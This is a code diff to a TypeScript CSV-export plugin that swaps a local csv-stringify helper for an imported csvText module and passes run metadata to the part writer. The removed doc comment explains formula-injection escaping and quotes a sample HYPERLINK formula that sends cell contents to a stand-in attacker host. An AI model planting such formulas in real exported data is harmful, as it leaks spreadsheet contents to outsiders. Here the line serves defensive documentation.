@@ -15,7 +15,7 @@ import {
 import { finalizeParts, resolveOutputPath, writePart } from "@sluice/sdk/sink/part_files.ts";
 import { parseSort, type SortKey, type SortSpec, sortValues } from "@sluice/sdk/sink/sort_rows.ts";
 import { keyedLine, keyedRows } from "@sluice/sdk/sink/keyed_rows.ts";
-import { stringify } from "csv-stringify/sync";
+import { csvText } from "./csv_text.ts";
 
 interface Config {
   path?: string;
@@ -52,18 +52,6 @@ export const DEFAULT_COLUMNS: string[] = [
   "rdap.expires",
 ];
 
-/**
- * CSV text of `rows`. With `escapeFormulas` a text cell starting with `=`, `+`, `-`, `@`, tab or
- * carriage return gets a leading `'`, so a spreadsheet shows it as text instead of running it as
- * a formula: the cells come from the input file, web pages and registries, which anyone can
- * write (`=HYPERLINK("http://evil.example/?"&A1)`).
- */
-function csv(rows: string[][], delimiter: string, escapeFormulas = true): string {
-  return rows.length === 0
-    ? ""
-    : stringify(rows, { delimiter, record_delimiter: "\r\n", escape_formulas: escapeFormulas });
-}
-
 export default definePlugin<Config, State>({
   setup({ config, dataDir, run }) {
     const delimiter = config.delimiter ?? ",";
@@ -83,7 +71,7 @@ export default definePlugin<Config, State>({
       sort: parseSort(config.sort),
     };
   },
-  async process(items, { config, state, chunk, metrics }) {
+  async process(items, { config, state, chunk, metrics, run }) {
     const leadsOnly = config.leadsOnly ?? true;
     const chosen = leadsOnly ? items.filter((i: Item) => i.lead === true) : items;
     const rows = chosen.map((i) => state.columns.map((c) => cellText(columnValue(i, c))));
@@ -97,18 +85,19 @@ export default definePlugin<Config, State>({
         ? rows.map((r, i) =>
           keyedLine(
             chosen[i].key,
-            csv([r], delimiter, escape),
+            csvText([r], { delimiter, escapeFormulas: escape }),
             state.sort.length > 0 ? sortValues(chosen[i], state.sort) : undefined,
           )
         ).join("")
-        : csv(rows, delimiter, escape),
+        : csvText(rows, { delimiter, escapeFormulas: escape }),
+      { run: run.id },
     );
     metrics.count("rows_written", rows.length);
     return items;
   },
-  async finish({ config, state, log }) {
+  async finish({ config, state, log, run }) {
     const header = (config.header ?? true)
-      ? csv([state.columns.map((c) => c.header)], config.delimiter ?? ",")
+      ? csvText([state.columns.map((c) => c.header)], { delimiter: config.delimiter ?? "," })
       : undefined;
     const unique = config.unique ?? true;
     const keyed = unique || state.sort.length > 0 ? keyedRows(unique, state.sort) : undefined;
@@ -117,6 +106,8 @@ export default definePlugin<Config, State>({
       bom: config.bom ?? false,
       mapPart: keyed?.mapPart,
       after: keyed?.after,
+      run: run.id,
+      runStartedAt: run.startedAt,
     });
     if (!r.alreadyDone) log.info(`csv-export: wrote ${state.file} from ${r.parts} chunk(s)`);
     return { files: [state.file] }; // the run offers it for download
